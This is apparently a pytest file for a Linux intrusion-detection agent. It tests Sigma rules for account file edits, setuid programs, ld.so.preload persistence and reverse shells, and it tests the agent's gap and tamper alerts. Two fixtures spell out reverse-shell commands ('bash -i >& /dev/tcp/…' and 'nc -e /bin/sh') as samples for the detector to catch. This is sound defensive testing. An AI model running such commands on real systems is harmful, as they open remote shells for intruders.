from __future__ import annotations

from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentinair.detect.fields import FIELDS, FILE_EVENT, PROCESS_CREATION, EventView
from sentinair.detect.gaps import LOST, OWN_STATE, GapDetector
from sentinair.detect.sigma.detector import CompiledRule, SigmaDetector, detect
from sentinair.detect.sigma.files import read_rule, read_rules
from sentinair.detect.sigma.gate import needs
from sentinair.detect.sigma.rule import Rule
from sentinair.model.alert import Detection, Joined
from sentinair.model.event import (
    ATTRIB,
    CREATE,
    DELETE,
    OPEN,
    RENAME,
    WRITE,
    Event,
    FileEvent,
    FileState,
    GapEvent,
    ProcessEvent,
)
from sentinair.model.process import Parent, Process
from tests.harness.strategies import events, processes

RULES = read_rules(Path(__file__).parents[3] / "config" / "rules").rules
SIGMA = SigmaDetector(RULES, {0: "root"})
ENGINE = (400, 7000)
PARENT = Parent(1, 2, b"/usr/sbin/sshd", (b"sshd:", b"x"))
BASH = Process(
    pid=5, ppid=1, start=9, exe=b"/usr/bin/bash", argv=(b"bash", b"-l"), cwd=b"/root", uid=0,
    auid=1000, parents=(PARENT,),
)  # fmt: skip


def changed(path: bytes, actions: int = WRITE, mode: int | None = 0o100644) -> FileEvent:
    state = None if mode is None else FileState(mode, 3, 4, 10, 1, 1, 0, 0)
    return FileEvent(seen_ns=0, mono_ns=0, path=path, actions=actions, state=state)


def ran(*argv: bytes, exe: bytes | None = None, action: str = "exec") -> Joined:
    process = Process(pid=5, exe=exe or b"/usr/bin/" + argv[0], argv=argv, uid=0)
    return Joined(ProcessEvent(seen_ns=0, mono_ns=0, action=action, process=process), process)


def titles(joined: Joined, sigma: SigmaDetector = SIGMA) -> list[tuple[str, str]]:
    return [(found.title, found.severity) for found in sigma.judge(joined)]


def rule(body: str, category: str = PROCESS_CREATION) -> Rule:
    head = (
        "title: T\nid: 3bc18b76-9dc5-445c-8c6b-9fa02e6a9c23\nlevel: low\n"
        f"logsource: {{product: linux, category: {category}}}\ndetection:\n"
    )
    found, faults = read_rule((head + body).encode(), "r.yml")
    assert not faults, [str(fault) for fault in faults]
    assert found is not None
    return found


def test_editing_passwd_is_an_alert_and_useradd_doing_it_a_quieter_one() -> None:
    event = changed(b"/etc/passwd")
    assert titles(Joined(event, BASH)) == [("Account or sudo file changed", "high")]
    assert titles(Joined(event, None)) == [("Account or sudo file changed", "high")]
    tool = Process(pid=5, exe=b"/usr/sbin/useradd")
    assert titles(Joined(event, tool)) == [("Account or sudo file changed", "low")]


def test_a_setuid_program_is_an_alert_and_a_setgid_folder_is_none() -> None:
    found = titles(Joined(changed(b"/opt/x", ATTRIB, 0o104755), BASH))
    assert found == [("Setuid or setgid program appeared", "high")]
    assert titles(Joined(changed(b"/opt/x", ATTRIB, 0o042755), BASH)) == []
    assert titles(Joined(changed(b"/opt/x", ATTRIB, 0o104644), BASH)) == []
    assert titles(Joined(changed(b"/opt/x", ATTRIB, 0o100755), BASH)) == []
    assert titles(Joined(changed(b"/opt/x", ATTRIB, 0o102755), BASH)) == [
        ("Setuid or setgid program appeared", "medium")
    ]


def test_a_reverse_shell_is_an_alert_and_an_ordinary_shell_is_none() -> None:
    shell = ran(b"bash", b"-c", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    assert titles(shell) == [("Reverse shell command line", "critical")]
    assert titles(ran(b"bash", b"-c", b"ls")) == []


def test_only_programs_that_begin_or_are_found_are_judged() -> None:
    argv = (b"nc", b"-e", b"/bin/sh", b"10.0.0.1", b"4")
    assert titles(ran(*argv, action="inventory"))
    assert titles(ran(*argv, action="exit")) == []
    assert titles(ran(*argv, action="setid")) == []


def test_the_joined_facts_are_judged_before_the_events_own() -> None:
    bare = ProcessEvent(seen_ns=0, mono_ns=0, action="exec", process=Process(pid=5))
    full = Process(pid=5, exe=b"/dev/shm/x", argv=(b"x",))
    assert titles(Joined(bare, full)) == [
        ("Program run from memory or a place for scratch files", "high")
    ]
    assert titles(Joined(bare, None)) == []


def test_a_detection_carries_rule_reasons_and_evidence() -> None:
    (found,) = SIGMA.judge(Joined(changed(b"/etc/ld.so.preload", CREATE), BASH))
    assert (found.source, found.category, found.severity) == ("sigma", "persistence", "critical")
    assert found.rule_author == "Sentinair"
    assert ("TargetFilename", "/etc/ld.so.preload") in [(m.field, m.value) for m in found.matches]


def test_the_adjusting_note_comes_first_among_the_reasons() -> None:
    tool = Process(pid=5, exe=b"/usr/bin/passwd")
    (found,) = SIGMA.judge(Joined(changed(b"/etc/shadow", RENAME), tool))
    assert found.why[0].startswith("A usual account tool")
    assert found.confidence == 0.2


def test_a_rule_groups_by_the_fields_it_names() -> None:
    (found,) = SIGMA.judge(Joined(changed(b"/opt/x", ATTRIB, 0o104755), BASH))
    assert found.group == ("TargetFilename\n/opt/x",)


def test_a_rule_that_does_not_speak_of_action_sees_new_content_only() -> None:
    sigma = SigmaDetector([rule("  s:\n    TargetFilename: /x\n  condition: s\n", FILE_EVENT)])
    assert [bool(titles(Joined(changed(b"/x", bits), None), sigma)) for bits in
            (CREATE, WRITE, RENAME, ATTRIB, DELETE, OPEN)] == [True, True, True, False, False, False]  # fmt: skip


def test_every_field_can_be_read_from_an_event() -> None:
    hashed = ProcessEvent(seen_ns=0, mono_ns=0, action="exec", process=BASH, sha256=b"\x01" * 32)
    view = EventView(Joined(hashed, None), {0: "root"})
    wanted = {
        "Action": "exec", "Hashes": "SHA256=" + "01" * 32, "Image": "/usr/bin/bash",
        "CommandLine": "bash -l", "CurrentDirectory": "/root", "ProcessId": "5",
        "ParentProcessId": "1", "LogonId": "1000", "LoginUid": "1000", "Uid": "0",
        "Deleted": "false", "Memfd": "false", "ParentImage": "/usr/sbin/sshd",
        "ParentCommandLine": "sshd: x", "Ancestors": "/usr/sbin/sshd", "User": "root",
    }  # fmt: skip
    assert {name: view.texts(name)[0] for name in FIELDS[PROCESS_CREATION]} == wanted
    event = FileEvent(
        seen_ns=0, mono_ns=0, path=b"/a\xff", old_path=b"/b", actions=CREATE | WRITE,
        state=FileState(0o104755, 3, 4, 10, 1, 1, 0, 0),
    )  # fmt: skip
    view = EventView(Joined(event, Process(pid=5, uid=77)), {})
    assert view.texts("TargetFilename") == ("/a\udcff",)
    assert view.texts("Action") == ("create", "write")
    assert [view.texts(n)[0] for n in ("SourceFilename", "Mode", "SetUid", "SetGid", "FileUid",
            "FileGid", "User")] == ["/b", "4755", "true", "false", "3", "4", "77"]  # fmt: skip


def test_what_is_unknown_is_absent() -> None:
    view = EventView(Joined(changed(b"/x", mode=None), None), {})
    absent = FIELDS[FILE_EVENT] - {"TargetFilename", "Action"}
    assert all(view.texts(name) == () for name in absent)
    view = EventView(Joined(changed(b"/x"), Process(pid=5)), {})
    assert view.texts("Image") == view.texts("User") == view.texts("ParentImage") == ()
    assert view.texts("NoSuchField") == ()


@given(events, st.none() | processes)
def test_the_gate_never_hides_what_a_rule_would_have_seen(
    event: Event, process: Process | None
) -> None:
    if not isinstance(event, FileEvent | ProcessEvent):
        return
    if isinstance(event, ProcessEvent) and event.action not in {"exec", "inventory"}:
        return
    joined = Joined(event, process)
    source = FILE_EVENT if isinstance(event, FileEvent) else PROCESS_CREATION
    view = EventView(joined, {0: "root"})
    compiled = [CompiledRule(one) for one in RULES if one.logsource == source]
    asked = [
        one for one in compiled
        if not isinstance(event, FileEvent) or one.actions & event.actions
    ]  # fmt: skip
    wanted = [found for found in (detect(one, view) for one in asked) if found is not None]
    assert list(SIGMA.judge(joined)) == wanted


@pytest.mark.parametrize(
    ("body", "literals"),
    [
        ("  s:\n    Image: /BIN/x\n  condition: s\n", {"/bin/x"}),
        ("  s:\n    Image|contains|all: [a, bcd]\n  condition: s\n", {"bcd"}),
        ("  s:\n    Image: 'a*bcd'\n  condition: s\n", {"bcd"}),
        ("  s:\n    Image|re: x\n    CommandLine: yy\n  condition: s\n", {"yy"}),
        ("  s:\n    Memfd: true\n  condition: s\n", {"true"}),
        ("  s:\n    Image: a\n  t:\n    Image: b\n  condition: s or t\n", {"a", "b"}),
    ],
)
def test_needs_follow_from_the_tree(body: str, literals: set[str]) -> None:
    found = needs(rule(body).test, PROCESS_CREATION)
    assert found is not None
    assert {need.literal for need in found} == literals


@pytest.mark.parametrize(
    "body",
    [
        "  s:\n    Image: a\n  condition: not s\n",
        "  s:\n    Image: '*'\n  condition: s\n",
        "  s:\n    Image: ''\n  condition: s\n",
        "  s:\n    User: a\n  condition: s\n",
        "  s:\n    Memfd: false\n  condition: s\n",
        "  s:\n    Image: a\n  t:\n    User: b\n  condition: s or t\n",
    ],
)
def test_a_rule_without_needs_keeps_the_gate_open(body: str) -> None:
    one = rule(body)
    assert needs(one.test, PROCESS_CREATION) is None
    joined = ran(b"zzz")
    wanted = detect(CompiledRule(one), EventView(joined, {}))
    assert list(SigmaDetector([one]).judge(joined)) == ([] if wanted is None else [wanted])


def test_a_file_rule_without_needs_sees_every_file() -> None:
    sigma = SigmaDetector([rule("  s:\n    TargetFilename: /x\n  condition: not s\n", FILE_EVENT)])
    assert titles(Joined(changed(b"/y"), None), sigma)


def test_a_detector_without_rules_judges_nothing() -> None:
    assert list(SigmaDetector([]).judge(Joined(changed(b"/etc/passwd"), BASH))) == []
    assert list(SigmaDetector([]).judge(ran(b"nc", b"-e", b"/bin/sh"))) == []


def gap(reason: str = "overflow", lost: int | None = None) -> list[Detection]:
    event = GapEvent(
        seen_ns=0, mono_ns=0, gap_id=b"12345678", source="fanotify", reason=reason, lost=lost,
        since_ns=0, until_ns=1,
    )  # fmt: skip
    return list(GapDetector(b"/var/lib/s", ENGINE).judge(Joined(event, None)))


def test_lost_events_are_an_alert_with_the_count_if_it_is_known() -> None:
    (found,) = gap()
    assert (found.rule_id, found.severity) == (LOST, "medium")
    assert "an unknown number of events: the kernel's queue was full" in found.description
    (found,) = gap("enobufs", 77)
    assert "77 events" in found.description
    assert ("lost", "77") in [(m.field, m.value) for m in found.matches]
    (found,) = gap("something new")
    assert "something new" in found.description


def test_a_restart_of_the_agent_is_told_in_a_low_voice() -> None:
    (found,) = gap("restart")
    assert found.severity == "low"
    assert "the agent was not running" in found.description
    (found,) = gap("sender_death")
    assert found.severity == "medium"


def test_a_stranger_in_the_agents_state_is_critical() -> None:
    own = GapDetector(b"/var/lib/s", ENGINE)
    for path in (b"/var/lib/s/ledger.db", b"/var/lib/s", b"/var/lib/s/keys/epoch"):
        for actions in (CREATE, WRITE, ATTRIB, RENAME, DELETE):
            (found,) = own.judge(Joined(changed(path, actions), BASH))
            assert (found.rule_id, found.severity) == (OWN_STATE, "critical")
    away = FileEvent(
        seen_ns=0, mono_ns=0, path=b"/tmp/x", old_path=b"/var/lib/s/ledger.db", actions=RENAME
    )
    assert list(own.judge(Joined(away, BASH)))


def test_what_the_engine_started_is_no_stranger_in_its_state() -> None:
    own = GapDetector(b"/var/lib/s", ENGINE)
    opened = changed(b"/var/lib/s/ledger.db-wal", WRITE)

    def child(*parents: Parent) -> Joined:
        return Joined(opened, msgspec.structs.replace(BASH, parents=parents))

    pid, start = ENGINE
    runner = Parent(1, 1, b"/sbin/init")
    assert list(own.judge(child(Parent(pid, start + 1, None), runner))) == []
    assert list(own.judge(child(Parent(700, 5000, None), Parent(pid, start, None)))) == []
    for stranger in (Parent(pid, start + 90, None), Parent(pid, None, None), runner):
        assert list(own.judge(child(stranger))), stranger
    assert list(own.judge(Joined(opened, None)))


def test_readers_and_neighbours_of_the_state_are_left_alone() -> None:
    own = GapDetector(b"/var/lib/s", ENGINE)
    for event in (
        changed(b"/var/lib/s/ledger.db", OPEN),
        changed(b"/var/lib/s/ledger.db-shm", WRITE),
        changed(b"/var/lib/sx/ledger.db"),
        changed(b"/etc/passwd"),
    ):
        assert list(own.judge(Joined(event, BASH))) == []
    assert list(own.judge(Joined(changed(b"/var/lib/s/ledger.db-shm", DELETE), BASH)))
    assert list(own.judge(ran(b"ls"))) == []
